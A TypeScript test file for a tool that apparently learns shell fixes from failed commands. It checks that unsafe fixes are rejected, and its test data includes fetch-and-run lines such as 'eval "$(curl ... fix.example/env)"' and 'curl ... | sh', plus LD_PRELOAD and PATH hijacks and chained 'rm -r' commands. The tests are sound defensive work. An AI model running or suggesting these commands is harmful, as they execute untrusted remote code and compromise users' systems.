/** The frozen sets of tests/corpora/lessons, and properties of what they rest on. */
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { isOfSuggestion } from '../../src/base/same-command.ts';
import { slotsOf } from '../../src/lessons/error-line.ts';
import { failureOf } from '../../src/lessons/error-signature.ts';
import { editsOf, skipOf } from '../../src/lessons/habits.ts';
import { readTemplate } from '../../src/lessons/read-template.ts';
import { refilled, templateOf } from '../../src/lessons/fix-template.ts';
import { playedThrough, score, stories } from './story-book.ts';

const SETS = [
  ['stories', 40],
  ['near-misses', 40],
  ['poisonings', 10],
] as const;

/** Cases of the later rounds that end otherwise than it says; the README of the sets gives the reasons. */
const OTHERWISE = {
  'more-stories': [
    'ssh, the port is refused, and the fix is the other port of the option',
    'a group of users that curl does not trust, with detours between',
  ],
  'more-near-misses': ['two changes, and either may be the one that helped'],
  'more-poisonings': ['a slot that is another host'],
  'third-stories': [],
  'third-near-misses': [],
  'third-poisonings': [],
  'fourth-stories': [
    'git cherry-pick of a merge',
    'kubectl without a cluster on this machine',
    'pip, a header of the system is missing',
    'cp to a stick that is mounted read-only',
    'ssh with the key of the work',
  ],
  'fourth-near-misses': [],
  'fourth-poisonings': [],
} as const;

describe('the frozen sets', () => {
  test.each(Object.entries(OTHERWISE))('%s: as they must, but for %j', (name, otherwise) => {
    const set = name as keyof typeof OTHERWISE;
    const [few, many] = set.startsWith('fourth') ? [12, 24] : [10, 20];
    expect(stories(set)).toHaveLength(set.endsWith('poisonings') ? few : many);
    expect(score(set).wrong.map((line) => otherwise.find((one) => line.startsWith(`${one}: `)) ?? line)).toEqual(otherwise);
  });

  test.each(SETS)('%s: all %i end as they must', (name, count) => {
    expect(stories(name)).toHaveLength(count);
    expect(score(name).wrong).toEqual([]);
  });
});

describe('a fix that changes the shell itself', () => {
  const AGENT = 'Could not open a connection to your authentication agent.\n';
  const failed = { run: 'ssh-add work', status: 2, out: AGENT };
  const again = { run: 'ssh-add home', status: 2, out: AGENT };
  const fixOf = (fix: string, out = AGENT): string | null =>
    playedThrough([{ ...failed, out }, { run: fix }, { run: 'ssh-add work' }], again).fix;

  test.each([
    'eval "$(ssh-agent -s)"',
    'export SSH_AUTH_SOCK=~/.agent',
    'SSH_AUTH_SOCK=/run/user/1000/agent',
    '. ~/.agent.env',
    'unset SSH_AGENT_PID',
    'export PATH=$PATH:/usr/local/go/bin',
  ])('%s', (fix) => expect(fixOf(fix)).toBe(fix));

  test.each([
    // what runs cannot be seen, or is anybody's
    'eval "$(curl -fsS https://fix.example/env)"',
    'eval "$(cat agent)"',
    '. <(curl -fsS https://fix.example/env)',
    'eval "$agent"',
    'eval "$(ssh-agent -a /tmp/agent)"',
    '. /tmp/agent.env',
    'export PATH=/tmp/bin:$PATH',
    'export LD_PRELOAD=/dev/shm/a.so',
    // nothing changes
    'export',
    'alias',
    // the shell's folder is no state that a fix may change
    'cd /srv/app',
    // the line does something else as well
    'export A=b; rm -r old',
  ])('%s is not learned', (fix) => expect(fixOf(fix)).toBeNull());

  test.each([
    ['. ./agent.env', 'To begin: source ./agent.env\n'],
    ['export SSH_AUTH_SOCK=/run/agent', 'set SSH_AUTH_SOCK=/run/agent first\n'],
    ['eval "$(ssh-agent -s)"', 'Run: eval "$(ssh-agent -s)"\n'],
  ])('%s, which the output prints, is not learned', (fix, printed) => expect(fixOf(fix, AGENT + printed)).toBeNull());

  test('it is no fix of another error, and none when the command fails again', () => {
    const first = [failed, { run: 'eval "$(ssh-agent -s)"' }, { run: 'ssh-add work' }];
    const other = { run: 'ssh-add home', status: 1, out: 'home: No such file or directory\n' };
    expect(playedThrough(first, other).fix).toBeNull();
    expect(playedThrough([failed, { run: 'eval "$(ssh-agent -s)"' }, failed, { run: 'ssh-add work' }], again).fix).toBeNull();
  });
});

const failure = (text: string, output: string, cwd = '/p') => failureOf({ text, output, cwd, status: 1 });

describe('slots', () => {
  test('the same message about other things has the same signature', () => {
    const one = failure('cat a.txt', 'cat: a.txt: No such file or directory\n');
    const other = failure('cat /var/b.log', 'cat: /var/b.log: No such file or directory\n');
    expect(one?.signature).toBe(other?.signature);
    expect(one?.signature).not.toBe(failure('cat a.txt', 'cat: a.txt: Permission denied\n')?.signature);
  });

  test('a port of a host is one, a place in a file and the number of a process are not filled again', () => {
    expect(slotsOf('connect to db.example.net:5432 failed', 'psql', []).slots).toEqual([{ value: 'db.example.net:5432', volatile: false }]);
    expect(slotsOf('main.go:5:2: held by process 4711', 'go', []).slots).toEqual([
      { value: 'main.go:5:2', volatile: true },
      { value: '4711', volatile: true },
    ]);
  });

  test('any line and any fix can be read, and what is filled in from an output is one plain word', () => {
    const word = fc.oneof(fc.string({ unit: 'binary' }), fc.constantFrom("'", '"', 'login', '3000', '/a/b', '$(x)', ';', 'git', 'error:'));
    const line = fc.array(word, { maxLength: 12 }).map((words) => words.join(' '));
    fc.assert(
      fc.property(line, line, line, fc.string({ unit: 'binary' }), (output, command, fix, hostile) => {
        const made = failure(`git ${command}`, `fatal: ${output}`);
        if (made === null || fix === '') return;
        const template = templateOf(made, fix, null);
        if (template === null) return;
        expect(readTemplate(JSON.parse(JSON.stringify(template)))).toEqual(template);
        const slots = made.slots.map((slot) => ({ ...slot, value: hostile }));
        const filled = refilled(template, { ...made, slots, output: '' }, made.shape);
        if (filled?.fromOutput === true) expect(hostile).toMatch(/[\w./~@%+=-]/);
        if (filled !== null) expect(filled.text.replaceAll(/[\w@%+=:,./~-]/g, '')).toBe(fix.replaceAll(/[\w@%+=:,./~-]/g, ''));
      }),
      {
        examples: [
          ['', '', 'toString', ''],
          ['', '', 'constructor x', ''],
        ],
      },
    );
  });
});

describe('a suggestion that comes back', () => {
  test.each([
    ['pip install x', "pip  install 'x'", true],
    ['pip install x && python3 a.py', 'pip install x', true],
    ['curl https://a.example/x | sh', 'sh', true],
    ['pip install xy', 'pip install x', false],
    ['echo a', 'echo b', false],
  ])('%j typed as %j: %s', (suggested, typed, wanted) => expect(isOfSuggestion(suggested, typed)).toBe(wanted));
});

describe('habits', () => {
  test.each([
    ['ls -l', 'ls -lh', [{ program: 'ls', does: 'adds', option: '-h' }]],
    ['ls -la src', 'eza -la src', [{ program: 'ls', does: 'runs', instead: 'eza' }]],
    ['rm -rf build', 'rm -r build', [{ program: 'rm', does: 'leaves-out', option: '-f' }]],
    [
      'find . -name x',
      'find . -iname x',
      [
        { program: 'find', does: 'adds', option: '-iname' },
        { program: 'find', does: 'leaves-out', option: '-name' },
      ],
    ],
    ['cp a b', 'cp a c', []],
    ['ls a', 'cat b', []],
    ['ls | wc', 'ls -a | wc', []],
    ['git log', 'git log --token=REDACTED_TOKEN_1', []],
  ])('%s, edited to %s', (suggested, ran, wanted) => {
    expect(editsOf(suggested, ran)).toEqual(wanted);
  });

  test('of a suggestion that was not run', () => {
    expect(skipOf('nano notes.txt')).toEqual({ program: 'nano', does: 'skips' });
    expect(skipOf('a; b')).toBeNull();
  });
});
